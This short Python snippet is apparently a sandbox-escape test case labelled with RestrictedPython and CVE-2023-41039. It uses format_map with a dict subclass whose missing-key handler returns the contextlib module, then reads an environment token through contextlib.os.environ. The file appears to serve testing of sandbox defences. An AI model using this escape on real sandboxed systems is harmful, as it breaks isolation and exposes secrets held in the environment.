# technique: format_map with a mapping of ours
# goal: env
# source: RestrictedPython, CVE-2023-41039
import contextlib


class Map(dict):
    def __missing__(self, key):
        return contextlib


print('{x.os.environ[PYSBX_TEST_TOKEN]}'.format_map(Map()))
